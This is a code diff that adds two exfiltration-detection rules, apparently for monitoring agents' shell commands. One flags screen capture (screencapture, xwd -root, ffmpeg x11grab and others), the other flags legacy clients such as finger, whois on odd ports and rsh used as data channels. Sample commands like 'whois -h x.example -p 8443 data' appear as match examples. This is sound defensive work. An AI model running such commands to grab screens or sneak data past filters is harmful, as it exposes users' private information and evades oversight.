@@ -85,7 +85,85 @@ function passphraseEncrypts(c: ShellCommand): boolean {
   }
 }
 
+/** True when a legacy protocol client is pointed at a host as a raw channel: finger(1)
+ * `user@host` (the user part travels, the answer comes back), whois(1) `-h HOST -p PORT` on a port
+ * other than 43, rlogin/rsh/rexec to a host, CUPS cancel(1) `-h HOST:PORT` (its `-u` text is sent). */
+export function legacyChannel(c: ShellCommand): boolean {
+  const args = c.argv.slice(1);
+  switch (c.name) {
+    case 'finger':
+      return args.some((a) => /^[^@\s]*@[\w.-]+\.[\w-]+$/.test(a) && !isLoopbackHost(a.split('@')[1]!.toLowerCase()));
+    case 'whois': {
+      const host = args[args.indexOf('-h') + 1];
+      const port = args[args.indexOf('-p') + 1];
+      return args.includes('-h') && args.includes('-p') && port !== '43' && host !== undefined && !isLoopbackHost(host.toLowerCase());
+    }
+    case 'rlogin':
+    case 'rsh':
+    case 'rexec':
+      return args.some((a) => !a.startsWith('-') && /[\w-]\.[\w-]/.test(a));
+    case 'cancel':
+      return args.some((a, i) => args[i - 1] === '-h' && /:\d+$/.test(a) && !isLoopbackHost(a.replace(/:\d+$/, '').toLowerCase()));
+    default:
+      return false;
+  }
+}
+
+/** True when a command captures the screen: macOS screencapture, X11 `xwd -root`, ImageMagick
+ * `import -window root`, scrot, gnome-screenshot, grim, maim, ffmpeg grabbing x11grab or
+ * avfoundation, .NET Graphics.CopyFromScreen, Windows psr.exe recording. */
+export function capturesScreen(c: ShellCommand): boolean {
+  const args = c.argv.slice(1);
+  switch (c.name) {
+    case 'screencapture':
+    case 'scrot':
+    case 'gnome-screenshot':
+    case 'grim':
+    case 'maim':
+    case 'spectacle':
+      return !args.includes('-h') && !args.includes('--help');
+    case 'xwd':
+      return args.includes('-root');
+    case 'import':
+      return args.some((a, i) => a === '-window' && args[i + 1] === 'root');
+    case 'ffmpeg':
+      return args.some((a, i) => a === '-f' && /^(?:x11grab|avfoundation|gdigrab|kmsgrab)$/.test(args[i + 1] ?? ''));
+    case 'psr':
+      return args.some((a) => /^\/start$/i.test(a));
+    default:
+      return /\.CopyFromScreen\s*\(/.test(args.join(' ')) || /\.CopyFromScreen\s*\(/.test(c.span.source.slice(c.span.start, c.span.end));
+  }
+}
+
 export const EXFIL_RULES: Rule[] = [
+  {
+    id: 'screen-capture',
+    name: 'Screen captured',
+    category: 'exfiltration',
+    action: 'record',
+    attack: 'T1113',
+    description: 'The screen captured to a file: screencapture, xwd -root, import -window root, scrot, gnome-screenshot, grim, maim, ffmpeg -f x11grab/avfoundation/gdigrab, .NET CopyFromScreen, psr /start.',
+    help: 'Whatever is on screen (mail, chats, passwords being typed) ends up in a file. An agent seldom needs it; check why.',
+    examples: {
+      match: ['screencapture -x /tmp/s.png', 'xwd -root -out /tmp/s.xwd', 'import -window root /tmp/s.png'],
+      not_match: ['import numpy', 'xwd -help', "ffmpeg -i in.mp4 -f mp4 out.mp4"],
+    },
+    match: { command: capturesScreen },
+  },
+  {
+    id: 'legacy-protocol-channel',
+    name: 'Legacy protocol client used as a channel',
+    category: 'exfiltration',
+    action: 'record',
+    attack: 'T1048',
+    description: 'A legacy protocol client pointed at a host to carry data either way: finger user@host, whois -h HOST -p PORT on a port other than 43, rlogin/rsh/rexec to a host, cancel -h HOST:PORT.',
+    help: 'These clients send what they are given and print what comes back, past filters that watch HTTP. Check the host and the data.',
+    examples: {
+      match: ['finger x@x.example', 'whois -h x.example -p 8443 data', 'rlogin -l x -p 12345 x.example'],
+      not_match: ['whois example.com', 'finger', 'whois -h whois.radb.net AS15169'],
+    },
+    match: { command: legacyChannel },
+  },
   {
     id: 'passphrase-archive',
     name: 'Data packed or encrypted under a passphrase',
